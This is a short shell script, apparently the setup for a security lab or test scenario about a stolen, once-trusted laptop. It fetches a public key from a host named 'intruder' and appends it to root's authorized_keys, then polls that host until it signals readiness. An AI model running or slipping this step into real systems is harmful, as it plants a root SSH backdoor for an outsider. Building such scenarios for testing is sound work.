#!/bin/sh
# The laptop of somebody who works at home was let in months ago, and was stolen last week.
curl -fsS http://intruder:8000/key.pub >> /root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
tries=0
until curl -fsS -m 2 -o /dev/null http://intruder:8000/settled; do
  tries=$((tries + 1))
  [ "$tries" -lt 300 ] || exit 1
  sleep 0.2
done
